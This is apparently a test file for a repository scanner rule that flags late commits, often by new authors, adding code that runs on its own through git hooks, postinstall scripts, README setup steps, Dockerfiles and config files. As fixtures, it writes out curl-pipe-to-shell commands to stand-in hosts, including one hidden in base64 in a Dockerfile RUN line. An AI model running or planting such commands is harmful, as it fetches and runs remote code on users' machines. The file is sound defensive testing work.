import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { after, it } from 'node:test';
import { findingsOf } from '../../../../test/helpers/fixtures.ts';
import { buildRepo, tempDir } from '../../../../test/helpers/git-repo.ts';
import { describeRepoFixtures } from '../../../../test/helpers/repo-fixtures.ts';
import { scan } from '../../../index.ts';
import direnv from '../../autorun/direnv/rule.ts';
import dockerfile from '../../autorun/dockerfile/rule.ts';
import frameworkServer from '../../autorun/framework-server/rule.ts';
import gitHooks from '../../autorun/git-hooks/rule.ts';
import npmScripts from '../../autorun/npm-lifecycle-script/rule.ts';
import readmeCommand from '../../autorun/readme-command/rule.ts';
import toolConfig from '../../autorun/tool-config/rule.ts';
import rule from './rule.ts';

describeRepoFixtures(rule, import.meta.url, { rules: [direnv, gitHooks, rule] });

const tmp = tempDir('late-change');
after(() => {
  rmSync(tmp, { recursive: true, force: true });
});

const base = [
  { message: 'Initial commit', date: '2025-01-10T09:00:00Z', files: { 'README.md': '# App\n' } },
  { message: 'Add api', date: '2025-01-11T09:00:00Z', files: { 'src/api.js': 'module.exports = {};\n' } },
  { message: 'Add ui', date: '2025-01-12T09:00:00Z', files: { 'src/ui.js': 'module.exports = {};\n' } },
];

it('names the commit, author and date of a late hook added by a new identity (high)', async () => {
  const dir = join(tmp, 'stranger');
  buildRepo(dir, {
    commits: [
      ...base,
      {
        message: 'chore: tooling',
        date: '2025-01-13T23:59:00Z',
        author: { name: 'Mallory', email: 'mallory@example.net' },
        files: { '.husky/pre-commit': 'curl -s https://x.example.invalid/a | sh\n' },
      },
    ],
  });
  const report = await scan(dir, { rules: [direnv, gitHooks, rule] });
  const hit = findingsOf(report, rule.meta.id)[0];
  assert.ok(hit);
  assert.equal(hit.severity, 'high');
  assert.equal(hit.location.file, '.husky/pre-commit');
  assert.match(
    hit.message,
    /The newest commit, [0-9a-f]{10} by Mallory <mallory@example\.net> on 2025-01-13T23:59:00Z \("chore: tooling"\)/,
  );
  const notable = report.provenance?.notable.find(n => n.author === 'Mallory');
  assert.ok(notable);
  assert.ok(notable.introduced.includes('autorun/git-hooks'));
  assert.deepEqual(notable.files, ['.husky/pre-commit']);
});

it('is low when a regular author adds a hook command', async () => {
  const dir = join(tmp, 'same');
  buildRepo(dir, {
    commits: [...base, { message: 'hooks', date: '2025-01-13T09:00:00Z', files: { '.husky/pre-commit': 'npx lint-staged\n' } }],
  });
  const report = await scan(dir, { rules: [gitHooks, rule] });
  const hit = findingsOf(report, rule.meta.id, 'info')[0];
  assert.equal(hit?.severity, 'low');
  assert.equal(hit.location.file, '.husky/pre-commit');
});

it('is medium, at the script line, when a new identity adds a postinstall command', async () => {
  const dir = join(tmp, 'new-script');
  const pkg = (scripts: string): string => `{\n  "name": "app",\n  "scripts": {\n    "dev": "node server.js"${scripts}\n  }\n}\n`;
  buildRepo(dir, {
    commits: [
      {
        message: 'init',
        date: '2025-01-10T09:00:00Z',
        files: { 'package.json': pkg(''), 'server.js': 'module.exports = 1;\n', 'setup.js': 'module.exports = 2;\n' },
      },
      ...base.slice(1),
      {
        message: 'setup',
        date: '2025-01-13T09:00:00Z',
        author: { name: 'Newcomer', email: 'new@example.net' },
        files: { 'package.json': pkg(',\n    "postinstall": "node setup.js"') },
      },
    ],
  });
  const report = await scan(dir, { rules: [npmScripts, rule] });
  const hit = findingsOf(report, rule.meta.id, 'low')[0];
  assert.equal(hit?.severity, 'medium');
  assert.equal(hit.location.file, 'package.json');
  assert.equal(hit.location.line, 5);
  assert.match(hit.message, /added or changed the postinstall command `node setup\.js` in package\.json, which runs on install/);
});

it('says nothing when a new identity rewrites the README setup commands, but reports a download piped into a shell', async () => {
  const readme = (setup: string): string => `# App\n\n## Getting started\n\n\`\`\`bash\n${setup}\n\`\`\`\n`;
  const build = (name: string, setup: string): string => {
    const dir = join(tmp, name);
    buildRepo(dir, {
      commits: [
        {
          message: 'Initial commit',
          date: '2025-01-10T09:00:00Z',
          files: { 'README.md': readme('git clone https://example.com/acme/app.git\nnpm install') },
        },
        ...base.slice(1),
        {
          message: 'Docs: simpler setup',
          date: '2025-01-13T09:00:00Z',
          author: { name: 'Newcomer', email: 'new@example.net' },
          files: { 'README.md': readme(setup) },
        },
      ],
    });
    return dir;
  };
  const plain = await scan(
    build('readme-clone', 'git clone https://example.com/acme/app-starter.git\ncd app-starter\npnpm install\npnpm dev'),
    {
      rules: [readmeCommand, npmScripts, rule],
    },
  );
  assert.ok(plain.executionMap.some(s => s.trigger === 'readme'));
  assert.deepEqual(findingsOf(plain, rule.meta.id, 'info'), []);
  const piped = await scan(build('readme-pipe', 'curl -fsSL https://setup.example.invalid/install.sh | bash\nnpm install'), {
    rules: [readmeCommand, npmScripts, rule],
  });
  const hit = findingsOf(piped, rule.meta.id)[0];
  assert.equal(hit?.location.file, 'README.md');
  assert.match(hit.message, /added the code of README\.md:\d+ that autorun\/readme-command reports/);
});

it('says nothing when a regular author edits code that runs but has no finding', async () => {
  const dir = join(tmp, 'ordinary-edit');
  buildRepo(dir, {
    commits: [
      {
        message: 'init',
        date: '2025-01-10T09:00:00Z',
        files: {
          'package.json': '{"scripts":{"dev":"node server.js"}}\n',
          'server.js': "require('./routes.js');\n",
          'routes.js': 'module.exports = [];\n',
        },
      },
      ...base.slice(1),
      { message: 'routes', date: '2025-01-13T09:00:00Z', files: { 'routes.js': "module.exports = ['/health'];\n" } },
    ],
  });
  const report = await scan(dir, { rules: [npmScripts, rule] });
  assert.deepEqual(findingsOf(report, rule.meta.id, 'info'), []);
});

it('leaves ordinary late work on a Next.js page alone, but not a late new next.config.js (low: a known author)', async () => {
  const dir = join(tmp, 'next-page');
  const next = {
    'package.json': '{"scripts": {"dev": "next dev"}, "dependencies": {"next": "14.2.3"}}',
    'next.config.js': 'module.exports = { reactStrictMode: true };\n',
    'app/page.tsx': 'export default function Home() {\n  return null;\n}\n',
  };
  buildRepo(dir, {
    commits: [
      ...base,
      { message: 'Add app', date: '2025-01-13T09:00:00Z', files: next },
      {
        message: 'Home copy',
        date: '2025-01-14T09:00:00Z',
        files: { 'app/page.tsx': 'export default function Home() {\n  return 1;\n}\n' },
      },
    ],
  });
  const report = await scan(dir, { rules: [toolConfig, frameworkServer, rule] });
  assert.ok(report.executionMap.some(s => s.entry === 'app/page.tsx' && s.trigger === 'page-load'));
  assert.deepEqual(
    findingsOf(report, rule.meta.id).map(f => `${f.location.file} ${f.severity}`),
    ['next.config.js low'],
  );
});

it('says nothing when a new identity changes the build steps of a Dockerfile, but reports one that pipes a decoded payload into a shell', async () => {
  const build = (name: string, steps: string): string => {
    const dir = join(tmp, name);
    buildRepo(dir, {
      commits: [
        ...base,
        {
          message: 'chore: move to nx',
          date: '2025-01-13T09:00:00Z',
          author: { name: 'Newcomer', email: 'new@example.net' },
          files: { Dockerfile: `FROM node:20-alpine\nWORKDIR /app\nCOPY . .\n${steps}\nCMD ["node", "dist/api/main.js"]\n` },
        },
      ],
    });
    return dir;
  };
  const plain = await scan(
    build('docker-steps', 'RUN addgroup --system api && adduser --system -G api api\nRUN npm ci && npx nx build api'),
    {
      rules: [dockerfile, rule],
    },
  );
  assert.ok(plain.executionMap.some(s => s.kind === 'dockerfile'));
  assert.deepEqual(findingsOf(plain, rule.meta.id, 'info'), []);
  const hidden = await scan(
    build('docker-hidden', 'RUN --mount=type=secret,id=npm echo Y3VybCAtcyBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2g= | base64 -d | sh'),
    {
      rules: [dockerfile, rule],
    },
  );
  const hit = findingsOf(hidden, rule.meta.id)[0];
  assert.equal(hit?.location.file, 'Dockerfile');
  assert.equal(hit.severity, 'high');
});

it('is low when a new identity changes a command the user types (test, start), and nothing in it has a finding', async () => {
  const dir = join(tmp, 'new-test-script');
  const pkg = (test: string): string =>
    `{\n  "name": "app",\n  "scripts": {\n    "start": "node server.js",\n    "test": "${test}"\n  }\n}\n`;
  buildRepo(dir, {
    commits: [
      {
        message: 'init',
        date: '2025-01-10T09:00:00Z',
        files: { 'package.json': pkg('node --test'), 'server.js': 'module.exports = 1;\n' },
      },
      ...base.slice(1),
      {
        message: 'chore: move to nx',
        date: '2025-01-13T09:00:00Z',
        author: { name: 'Newcomer', email: 'new@example.net' },
        files: { 'package.json': pkg('nx test') },
      },
    ],
  });
  const report = await scan(dir, { rules: [npmScripts, rule] });
  const hit = findingsOf(report, rule.meta.id, 'info')[0];
  assert.equal(hit?.severity, 'low');
  assert.match(hit.message, /Nobody with that e-mail wrote any earlier commit/);
});
